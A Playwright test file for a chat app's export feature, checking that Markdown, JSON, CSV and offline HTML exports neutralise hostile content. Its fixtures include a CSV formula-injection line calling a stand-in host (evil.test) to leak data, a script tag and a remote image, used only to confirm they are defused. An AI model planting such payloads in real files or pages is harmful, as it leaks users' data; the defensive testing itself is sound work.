// Exports: four formats that leave the app as files, and one page that opens anywhere with the network off.
import { copyFile, mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { addConnection, exportChat, saveExport, useColumns } from '../helpers/at-the-window.ts';
import { startChatEndpoint } from '../helpers/chat-endpoint.ts';
import { type App, expect, test } from './app.ts';

const key = 'sk-test-Zq7nRw3kLx9vBt2mHs5d';
const formula = '=HYPERLINK("https://evil.test/?leak","click")';

const answers: Record<string, string> = {
  alpha: '| bird | eyes |\n|---|---|\n| owl | 2 |\n\n```js\nconst owl = 1;\n```',
  beta: `${formula}\n\n<script>globalThis.ran = 1</script> ![i](https://evil.test/i.png) [site](https://example.org/a)`,
};

/** A chat with two real columns and a simulated one, and two turns. */
const begin = async (app: App) => {
  const endpoint = await startChatEndpoint({
    models: Object.keys(answers),
    reply: ({ model }) => ({ pieces: [answers[model] ?? ''] }),
  });
  await addConnection(app.page, {
    vendor: 'OpenAI-compatible endpoint',
    name: 'Lab',
    baseUrl: endpoint.baseUrl,
    key,
    operator: 'The lab',
    region: 'cellar',
  });
  await useColumns(app.page, [
    { connection: 'Lab', modelId: 'alpha' },
    { connection: 'Lab', modelId: 'beta' },
    { connection: 'Simulated models', modelId: 'Sim: Fast and short' },
  ]);
  await app.ask(formula);
  await app.settled();
  await app.ask('And a second turn');
  await app.settled();
  return endpoint;
};

/** RFC 4180, every cell quoted. */
const parseCsv = (text: string): string[][] => {
  const rows: string[][] = [];
  for (const line of text.replace(/^\ufeff/, '').matchAll(/((?:"(?:[^"]|"")*",?)+)\r\n/g))
    rows.push(
      [...(line[1] ?? '').matchAll(/"((?:[^"]|"")*)"/g)].map((cell) => (cell[1] ?? '').replaceAll('""', '"')),
    );
  return rows;
};

test('a chat is saved as Markdown, JSON and CSV, and no cell of the CSV is a formula', async ({ app }) => {
  const endpoint = await begin(app);
  const markdown = await exportChat(app.page, 'Markdown');
  expect(markdown.name).toMatch(/\.md$/);
  for (const part of ['alpha', 'beta', 'Sim: Fast and short', 'The lab', 'cellar', 'And a second turn'])
    expect(markdown.text).toContain(part);

  const json = await exportChat(app.page, 'JSON');
  expect(json.name).toMatch(/\.json$/);
  const all = JSON.stringify(JSON.parse(json.text));
  for (const text of Object.values(answers)) expect(all).toContain(JSON.stringify(text).slice(1, -1));

  const csv = await exportChat(app.page, 'CSV table');
  expect(csv.name).toMatch(/\.csv$/);
  const [heading = [], ...rows] = parseCsv(csv.text);
  expect(rows).toHaveLength(6);
  const column = (name: string): string[] => rows.map((row) => row[heading.indexOf(name)] ?? 'absent');
  expect(column('prompt').slice(0, 3)).toEqual([`'${formula}`, `'${formula}`, `'${formula}`]);
  expect(column('text')[1]?.startsWith(`'${formula}`)).toBe(true);
  expect(column('input_tokens').slice(0, 2)).toEqual(['1200', '1200']);
  expect(column('cost_usd').slice(0, 2), 'unknown is empty, not zero').toEqual(['', '']);
  expect(Number(column('simulated_cost_usd')[2])).toBeGreaterThan(0);
  expect(Number(column('total_ms')[0])).toBeGreaterThan(0);
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*[=+@]/);
  await endpoint.close();
});

test('the page opens from disk with the network off, shows the same columns with measures, and runs no script', async ({
  app,
  browser,
}) => {
  const endpoint = await begin(app);
  const file = await exportChat(app.page, 'HTML page');
  expect(file.name).toMatch(/\.html$/);
  const folder = await mkdtemp(join(tmpdir(), 'collate-export-'));
  const path = join(folder, file.name);
  await copyFile(file.path, path);
  const context = await browser.newContext({ offline: true, viewport: { width: 1280, height: 800 } });
  const page = await context.newPage();
  const requests: string[] = [];
  const complaints: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  page.on('console', (message) => complaints.push(message.text()));
  page.on('dialog', (dialog) => dialog.dismiss());
  await page.goto(pathToFileURL(path).href);

  for (const label of ['alpha', 'beta', 'Sim: Fast and short']) {
    await expect(page.getByText(label, { exact: true }).first()).toBeVisible();
    const cells = page.getByRole('article', { name: `Answer from ${label}` });
    await expect(cells).toHaveCount(2);
    await expect(cells.first()).toContainText('tokens out');
    await expect(cells.first()).toContainText('total');
  }
  await expect(page.getByText('Lab · The lab · cellar').first()).toBeVisible();
  const boxes = await Promise.all(
    ['alpha', 'beta', 'Sim: Fast and short'].map((label) =>
      page
        .getByRole('article', { name: `Answer from ${label}` })
        .first()
        .boundingBox(),
    ),
  );
  expect(new Set(boxes.map((box) => box?.y)).size, 'side by side').toBe(1);
  await expect(page.getByRole('cell', { name: 'owl' }).first()).toBeVisible();
  await expect(page.getByText('price unknown').first()).toBeVisible();
  await expect(page.getByText('<script>globalThis.ran = 1</script>').first()).toBeVisible();
  expect(await page.locator('script, img, iframe, link, object, style[src]').count()).toBe(0);
  expect(await page.evaluate(() => Reflect.has(globalThis, 'ran'))).toBe(false);
  expect(requests).toEqual([pathToFileURL(path).href]);
  expect(complaints).toEqual([]);
  const width = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  expect(width).toBeLessThanOrEqual(0);
  await context.close();
  await rm(folder, { recursive: true, force: true });
  await endpoint.close();
});

test('one turn is exported alone', async ({ app }) => {
  const endpoint = await begin(app);
  await app.page
    .getByRole('group', { name: 'Turn 2', exact: true })
    .getByRole('button', { name: 'Turn menu' })
    .click();
  await app.page.getByRole('menuitem', { name: 'Export this turn' }).click();
  await expect(app.page.getByRole('radio', { name: 'This turn' })).toBeChecked();
  const { text } = await saveExport(app.page, 'Markdown');
  expect(text).toContain('And a second turn');
  expect(text).not.toContain('HYPERLINK("https://evil.test/?leak","click")\n\n#');
  expect(text.match(/^#+ .*Turn/gm)).toHaveLength(1);
  await endpoint.close();
});
